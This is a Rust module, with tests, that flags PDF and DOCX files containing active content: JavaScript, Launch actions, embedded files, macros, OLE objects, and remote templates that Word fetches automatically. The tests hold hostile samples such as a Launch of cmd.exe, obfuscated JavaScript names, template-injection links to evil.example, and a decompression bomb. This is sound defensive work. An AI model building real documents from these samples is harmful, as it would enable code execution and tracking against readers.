//! Finds content of a document that does something when the document is opened: programs, and references that a reader
//! follows by itself.
//!
//! A document that cannot be checked completely counts as active: an encrypted PDF, an object stream with an unusual
//! filter, or XML that is not UTF-8.

use std::io::{Cursor, Read};

use flate2::read::{DeflateDecoder, ZlibDecoder};
use quick_xml::XmlVersion;
use quick_xml::events::{BytesStart, Event};
use quick_xml::reader::Reader;
use zip::{CompressionMethod, ZipArchive};

/// The names in a PDF that stand for programs, embedded files, forms that send data, references to other files, and
/// encryption.
const PDF_NAMES: [&[u8]; 13] = [
    b"JavaScript",
    b"Launch",
    b"EmbeddedFile",
    b"EmbeddedFiles",
    b"SubmitForm",
    b"ImportData",
    b"RichMedia",
    b"Rendition",
    b"XFA",
    b"GoToE",
    b"GoToR",
    b"Movie",
    b"Encrypt",
];
/// The maximum number of names between two streams of a PDF that describe object streams.
const MAX_DICTIONARY: usize = 1_000;
/// The maximum number of bytes that are decompressed in one document.
const MAX_DECOMPRESSED: u64 = 8 * 1024 * 1024;

/// Whether a PDF contains one of these names, also written with `#xx`, in the file itself or in a compressed object
/// stream. Page content is not decompressed, because it cannot contain actions.
pub(super) fn is_in_pdf(bytes: &[u8]) -> bool {
    if has_active_name(bytes) {
        return true;
    }
    let mut left = MAX_DECOMPRESSED;
    let (mut start, mut dictionary) = (0, Vec::new());
    while let Some(found) = find(&bytes[start..], b"stream") {
        let (keyword, after) = (start + found, start + found + b"stream".len());
        dictionary.extend(names(&bytes[start..keyword]).filter(|name| describes_object_stream(name)));
        if dictionary.len() > MAX_DICTIONARY {
            return true;
        }
        start = after;
        if bytes[..keyword].ends_with(b"end") {
            dictionary.clear();
        } else if is_object_stream(&dictionary)
            && object_stream(&dictionary, &bytes[after..], &mut left)
                .is_none_or(|content| has_active_name(&content))
        {
            return true;
        }
    }
    false
}

/// Whether a name in a dictionary says that it belongs to an object stream, or how the stream is compressed.
fn describes_object_stream(name: &[u8]) -> bool {
    [&b"ObjStm"[..], b"First", b"N", b"Filter", b"Predictor", b"Fl"].contains(&name)
        || name.ends_with(b"Decode")
}

/// Whether these names, those since the end of the previous stream, are in the dictionary of an object stream. Some
/// readers need no type.
fn is_object_stream(dictionary: &[Vec<u8>]) -> bool {
    let has = |wanted: &[u8]| dictionary.iter().any(|name| name == wanted);
    has(b"ObjStm") || (has(b"First") && has(b"N"))
}

/// The content of an object stream whose data begins in the next line; `None` if it cannot be read.
fn object_stream(dictionary: &[Vec<u8>], after: &[u8], left: &mut u64) -> Option<Vec<u8>> {
    let spaces = after.iter().take_while(|byte| matches!(byte, b' ' | b'\t')).count();
    let ([b'\r', b'\n', data @ ..] | [b'\n' | b'\r', data @ ..]) = &after[spaces..] else {
        // The word is part of a text.
        return Some(Vec::new());
    };
    let has = |wanted: &[u8]| dictionary.iter().any(|name| name == wanted);
    let filters: Vec<_> =
        dictionary.iter().filter(|name| name.ends_with(b"Decode") || name.as_slice() == b"Fl").collect();
    match &filters[..] {
        [] if !has(b"Filter") => Some(data[..find(data, b"endstream").unwrap_or(data.len())].to_vec()),
        [filter] if filter.as_slice() == b"FlateDecode" && !has(b"Predictor") => {
            decompressed(ZlibDecoder::new(data), left)
        }
        _ => None,
    }
}

fn has_active_name(bytes: &[u8]) -> bool {
    starts(bytes)
        .any(|start| PDF_NAMES.contains(&name_at(bytes, start).as_slice()) && !is_in_link(bytes, start))
}

/// Whether the name that starts here is part of a web address in a string, such as `(https://example.com/Launch)`.
fn is_in_link(bytes: &[u8], start: usize) -> bool {
    const LONGEST: usize = 2_000;
    let before = &bytes[start.saturating_sub(LONGEST)..start];
    let is_part = |byte: &u8| is_regular(*byte) || matches!(byte, b'/' | b'%');
    let Some(end) = before.iter().rposition(|byte| !is_part(byte)) else { return false };
    let address = before[end + 1..].to_ascii_lowercase();
    before[end] == b'(' && (address.starts_with(b"http://") || address.starts_with(b"https://"))
}

/// The names in a part of a PDF, with `#xx` decoded. Names longer than the longest that matters are cut.
fn names(bytes: &[u8]) -> impl Iterator<Item = Vec<u8>> {
    starts(bytes).map(|start| name_at(bytes, start))
}

fn starts(bytes: &[u8]) -> impl Iterator<Item = usize> {
    bytes.iter().enumerate().filter(|(_, byte)| **byte == b'/').map(|(at, _)| at + 1)
}

fn name_at(bytes: &[u8], start: usize) -> Vec<u8> {
    const LONGEST: usize = 20;
    let mut rest = &bytes[start..];
    let mut name = Vec::new();
    while name.len() <= LONGEST {
        match rest {
            [b'#', high, low, after @ ..] if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() => {
                let digit = |byte: &u8| char::from(*byte).to_digit(16).unwrap_or_default();
                name.push(u8::try_from(digit(high) * 16 + digit(low)).unwrap_or_default());
                rest = after;
            }
            [byte, after @ ..] if is_regular(*byte) => {
                name.push(*byte);
                rest = after;
            }
            _ => break,
        }
    }
    name
}

/// Whether a byte is a regular character of a PDF, neither white space nor a delimiter.
fn is_regular(byte: u8) -> bool {
    !matches!(byte, 0 | b'\t' | b'\n' | 0x0C | b'\r' | b' ') && !b"()<>[]{}/%".contains(&byte)
}

fn find(bytes: &[u8], pattern: &[u8]) -> Option<usize> {
    memchr::memmem::find(bytes, pattern)
}

/// Decompresses everything; `None` if it is broken or too large.
fn decompressed(compressed: impl Read, left: &mut u64) -> Option<Vec<u8>> {
    let mut content = Vec::new();
    compressed.take(*left + 1).read_to_end(&mut content).ok()?;
    *left = left.checked_sub(u64::try_from(content.len()).ok()?)?;
    Some(content)
}

/// Whether a DOCX file contains macros, `ActiveX` controls, OLE objects or imported documents, or refers to a file that Word
/// loads by itself. Hyperlinks are allowed, and so is a template on the author's own disk, because Word records it.
pub(super) fn is_in_docx(archive: &mut ZipArchive<Cursor<&[u8]>>) -> bool {
    let mut left = MAX_DECOMPRESSED;
    (0..archive.len()).any(|index| {
        let Some((name, compression)) = archive
            .by_index_raw(index)
            .ok()
            .map(|entry| (entry.name_raw().to_ascii_lowercase(), entry.compression()))
        else {
            return true;
        };
        let is_types = name == b"[content_types].xml";
        if !is_types && !name.ends_with(b".rels") {
            return false;
        }
        let Ok(entry) = archive.by_index_raw(index) else { return true };
        let content = if compression == CompressionMethod::Stored {
            decompressed(entry, &mut left)
        } else {
            decompressed(DeflateDecoder::new(entry), &mut left)
        };
        let Some(xml) = content.and_then(|content| String::from_utf8(content).ok()) else { return true };
        let is_active: fn(&Attributes) -> bool =
            if is_types { is_active_type } else { is_active_relationship };
        has_element(&xml, is_active)
    })
}

/// Whether an XML document has such an element, or is not well-formed, or has a document type or another encoding.
fn has_element(xml: &str, is_active: impl Fn(&Attributes) -> bool) -> bool {
    let mut reader = Reader::from_str(xml.trim_start_matches('\u{feff}'));
    loop {
        let element = match reader.read_event() {
            Ok(Event::Start(element) | Event::Empty(element)) => element,
            Ok(Event::Eof) => return false,
            Ok(Event::DocType(_)) | Err(_) => return true,
            Ok(Event::Decl(declaration)) => match declaration.encoding() {
                None => continue,
                Some(Ok(encoding)) if encoding.eq_ignore_ascii_case(b"utf-8") => continue,
                Some(_) => return true,
            },
            Ok(_) => continue,
        };
        match Attributes::of(&element) {
            Some(attributes) if !is_active(&attributes) => {}
            _ => return true,
        }
    }
}

/// The attributes of an element, by their names without prefixes in lower case. The values are in lower case, too.
struct Attributes(Vec<(String, String)>);

impl Attributes {
    fn of(element: &BytesStart<'_>) -> Option<Self> {
        let attributes = element.attributes().map(|attribute| {
            let attribute = attribute.ok()?;
            // The parser accepts this, but a reader that repairs XML may find an element there.
            if attribute.value.contains(&b'<') {
                return None;
            }
            let name = String::from_utf8(attribute.key.local_name().as_ref().to_ascii_lowercase()).ok()?;
            let value = attribute.normalized_value(XmlVersion::Implicit1_0).ok()?;
            Some((name, value.trim().to_lowercase()))
        });
        attributes.collect::<Option<Vec<_>>>().map(Self)
    }

    fn get(&self, name: &str) -> &str {
        self.0.iter().find(|(known, _)| known == name).map_or("", |(_, value)| value)
    }
}

fn is_active_type(attributes: &Attributes) -> bool {
    let content_type = attributes.get("contenttype");
    ["macroenabled", "vbaproject", "vbadata", "activex", "oleobject"]
        .iter()
        .any(|part| content_type.contains(part))
}

fn is_active_relationship(attributes: &Attributes) -> bool {
    let (kind, target) = (attributes.get("type"), attributes.get("target"));
    let kind = kind.rsplit('/').next().unwrap_or_default();
    if attributes.get("targetmode") == "external" {
        // A path with another slash is on a server.
        let is_on_disk = target.strip_prefix("file:///").is_some_and(|path| {
            !path.starts_with(['/', '\\']) && !path.starts_with("%2f") && !path.starts_with("%5c")
        });
        return !(kind == "hyperlink" || (kind == "attachedtemplate" && is_on_disk));
    }
    [
        "vbaproject",
        "wordvbadata",
        "control",
        "activexcontrolbinary",
        "oleobject",
        "afchunk",
        "attachedtoolbars",
    ]
    .contains(&kind)
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::Compression;
    use flate2::write::{DeflateEncoder, ZlibEncoder};
    use std::io::Write;
    use zip::ZipWriter;
    use zip::write::SimpleFileOptions;

    fn zlib(content: &str) -> Vec<u8> {
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(content.as_bytes()).unwrap();
        encoder.finish().unwrap()
    }

    fn pdf(object: &str) -> Vec<u8> {
        format!("%PDF-1.7\n1 0 obj\n<< {object} >>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n")
            .into_bytes()
    }

    /// A PDF with an object stream.
    fn with_stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
        let head = format!("%PDF-1.7\n7 0 obj\n<</Type /ObjStm /N 1 /First 4 {dictionary}>>\nstream\r\n");
        [head.as_bytes(), data, b"\nendstream\nendobj\n%%EOF"].concat()
    }

    #[test]
    fn a_pdf_with_actions_or_embedded_files_is_active() {
        for object in [
            "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            "/AA << /O << /S/JavaScript/JS 3 0 R >> >>",
            "/S /J#61vaScript",
            "/S /#4A#61#76#61#53#63#72#69#70#74",
            "/S /Launch /F (cmd.exe)",
            "/Names << /EmbeddedFiles 4 0 R >>",
            "/Type/EmbeddedFile",
            "/S /SubmitForm",
            "/S/ImportData",
            "/Subtype /RichMedia",
            "/AcroForm << /XFA 5 0 R >>",
            "/S /GoToE",
            "/X (https://example.com) /S /Launch",
            "/X(https://example.com)/S/Launch",
            "/X://S/Launch",
            "/X <https://example.com/Launch>",
            "/S /GoToR /F (\\\\server\\share)",
            "/Encrypt 6 0 R",
        ] {
            assert!(is_in_pdf(&pdf(object)), "{object}");
            let compressed = zlib(&format!("1 0 << {object} >>"));
            assert!(
                is_in_pdf(&with_stream("/Filter /FlateDecode", &compressed)),
                "{object} in an object stream"
            );
            assert!(is_in_pdf(&with_stream("/Filter [ /FlateDecode ]", &compressed)), "{object} with a list");
            assert!(is_in_pdf(&with_stream("", object.as_bytes())), "{object} in an uncompressed stream");
        }
    }

    #[test]
    fn an_ordinary_pdf_is_not_active() {
        for object in [
            "/OpenAction [3 0 R /XYZ null null 0]",
            "/A << /S /URI /URI (https://example.com/Launch) >>",
            "/A << /S /URI /URI (http://example.com/a%20b/JavaScript/x) >>",
            "/Title (JavaScript developer; Launch manager)",
            "/JavaScripts /LaunchPad /XFAx",
            "/S /GoTo /D [3 0 R /Fit]",
        ] {
            assert!(!is_in_pdf(&pdf(object)), "{object}");
            let compressed = zlib(&format!("1 0 << {object} >>"));
            assert!(!is_in_pdf(&with_stream("/Filter /FlateDecode", &compressed)), "{object}");
        }
        // Page content is not decompressed.
        let page =
            [b"1 0 obj <</Filter/FlateDecode>> stream\n".as_slice(), &zlib("BT (x) Tj ET"), b"endstream"];
        assert!(!is_in_pdf(&page.concat()));
        // An outline has `First`, too, and text may contain the word.
        let text = b"2 0 obj <</First 3 0 R>> endobj 4 0 obj <</N 3 /Length 30>> stream\n(stream processing) Tj endstream";
        assert!(!is_in_pdf(text));
        // The type is optional for some readers, and a text cannot hide the stream.
        let data = zlib("1 0 <</S /Launch>>");
        for dictionary in [
            "/N 1 /First 4",
            "/Type /Obj#53tm /X (stream)",
            "/Type /ObjStm /X (stream\n)",
            "/Type/ObjStm/X(obj)",
        ] {
            let head = format!("7 0 obj <<{dictionary} /Filter /FlateDecode>> stream\n");
            assert!(is_in_pdf(&[head.as_bytes(), &data, b"\nendstream"].concat()), "{dictionary}");
        }
        assert!(!is_in_pdf(b"stream") && !is_in_pdf(b"/") && !is_in_pdf(b"") && !is_in_pdf(b"/#4"));
    }

    #[test]
    fn an_object_stream_that_cannot_be_checked_is_active() {
        let compressed = zlib("1 0 <<>>");
        let zlib_twice = compressed.clone();
        for (dictionary, data) in [
            ("/Filter /LZWDecode", &compressed[..]),
            ("/Filter [/ASCIIHexDecode /FlateDecode]", &compressed),
            ("/Filter /Fl", &compressed),
            ("/Filter 9 0 R", &compressed),
            ("/Filter [/FlateDecode /FlateDecode]", &zlib_twice),
            ("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", &compressed),
            ("/Filter /FlateDecode", b"not compressed"),
            ("/Filter /FlateDecode", &compressed[..8]),
        ] {
            assert!(is_in_pdf(&with_stream(dictionary, data)), "{dictionary}");
        }
        let bomb = zlib(&"0 ".repeat(5 << 20));
        assert!(bomb.len() < 1_000_000 && is_in_pdf(&with_stream("/Filter /FlateDecode", &bomb)));
    }

    fn docx(name: &str, content: &[u8], deflate: bool) -> bool {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
        writer.start_file(name, stored).unwrap();
        writer.write_all(content).unwrap();
        let mut bytes = writer.finish().unwrap().into_inner();
        if deflate {
            let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
            encoder.write_all(content).unwrap();
            bytes = deflated(name, content, &encoder.finish().unwrap());
        }
        is_in_docx(&mut ZipArchive::new(Cursor::new(&bytes[..])).unwrap())
    }

    /// An archive with one compressed entry.
    fn deflated(name: &str, content: &[u8], data: &[u8]) -> Vec<u8> {
        let number = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
        let mut crc = flate2::Crc::new();
        crc.update(content);
        let mut entry = vec![0x14, 0, 0, 0, 8, 0, 0, 0, 0x21, 0];
        entry.extend([crc.sum().to_le_bytes(), number(data.len()), number(content.len())].concat());
        entry.extend([u8::try_from(name.len()).unwrap(), 0, 0, 0]);
        let local = [b"PK\x03\x04", &entry[..], name.as_bytes(), data].concat();
        let directory = [b"PK\x01\x02\x14\0", &entry[..], &[0; 14], name.as_bytes()].concat();
        let end =
            [&b"PK\x05\x06\0\0\0\0\x01\0\x01\0"[..], &number(directory.len()), &number(local.len()), &[0, 0]];
        [local, directory, end.concat()].concat()
    }

    fn relationship(attributes: &str) -> String {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships><Relationship {attributes}/></Relationships>"
        )
    }

    const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    #[test]
    fn a_docx_that_loads_or_runs_something_is_active() {
        for (kind, rest) in [
            ("attachedTemplate", "Target='https://evil.example/t.dotm' TargetMode='External'"),
            ("attachedTemplate", "Target='file:////evil/share/t.dotm' TargetMode='External'"),
            ("attachedTemplate", "Target='\\\\evil\\share\\t.dotm' TargetMode='External'"),
            ("attachedTemplate", "Target='h&#116;tps://evil.example/t' TargetMode='E&#120;ternal'"),
            ("attachedTemplate", "Target='https://evil.example/t' TargetMode='external'"),
            ("image", "Target='https://evil.example/pixel.png' TargetMode='External'"),
            ("oleObject", "Target='https://evil.example/x' TargetMode='External'"),
            ("frame", "Target='https://evil.example/x' TargetMode='External'"),
            ("subDocument", "Target='https://evil.example/x' TargetMode='External'"),
            ("oleObject", "Target='embeddings/oleObject1.bin'"),
            ("control", "Target='activeX/activeX1.xml'"),
            ("aFChunk", "Target='chunk.htm'"),
            ("vbaProject", "Target='renamed.bin'"),
        ] {
            let xml = relationship(&format!("Id='r1' Type='{OFFICE}/{kind}' {rest}"));
            for deflate in [false, true] {
                assert!(docx("word/_rels/settings.xml.rels", xml.as_bytes(), deflate), "{xml}");
                assert!(docx("WORD/_RELS/X.RELS", xml.as_bytes(), deflate), "{xml}");
            }
        }
        for kind in
            ["application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"]
        {
            let xml = format!("<Types><Override PartName='/word/a.bin' ContentType='{kind}'/></Types>");
            assert!(docx("[Content_Types].xml", xml.as_bytes(), true), "{kind}");
        }
        let template = relationship(&format!(
            "Type='{OFFICE}/attachedTemplate' Target='https://e' TargetMode='External'"
        ));
        let utf_16: Vec<_> = template.encode_utf16().flat_map(u16::to_le_bytes).collect();
        for xml in [
            utf_16,
            b"<!DOCTYPE r [<!ENTITY e 'External'>]><r/>".to_vec(),
            b"<?xml version='1.0' encoding='utf-7'?><r/>".to_vec(),
            b"<r".to_vec(),
            b"<r a='&unknown;'/>".to_vec(),
            b"<r a='<r/>'/>".to_vec(),
            b"\xFF".to_vec(),
        ] {
            assert!(docx("word/_rels/document.xml.rels", &xml, false), "{}", String::from_utf8_lossy(&xml));
        }
        assert!(docx("_rels/.rels", "<r/>".repeat(3 << 20).as_bytes(), true), "too large");
    }

    #[test]
    fn an_ordinary_docx_is_not_active() {
        for (kind, rest) in [
            ("hyperlink", "Target='https://example.com/me' TargetMode='External'"),
            ("hyperlink", "Target='mailto:ada@example.com' TargetMode='External'"),
            ("attachedTemplate", "Target='file:///C:\\Users\\ada\\Resume.dotx' TargetMode='External'"),
            ("image", "Target='media/image1.png'"),
            ("settings", "Target='settings.xml'"),
            ("package", "Target='embeddings/chart.xlsx'"),
        ] {
            let xml = relationship(&format!("Id='r1' Type='{OFFICE}/{kind}' {rest}"));
            for deflate in [false, true] {
                assert!(!docx("word/_rels/document.xml.rels", xml.as_bytes(), deflate), "{xml}");
            }
        }
        let types = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
        let xml =
            format!("\u{feff}<Types><Override PartName='/word/document.xml' ContentType='{types}'/></Types>");
        assert!(!docx("[Content_Types].xml", xml.as_bytes(), true));
        assert!(!docx("word/document.xml", b"<w>TargetMode='External'", true));
    }
}
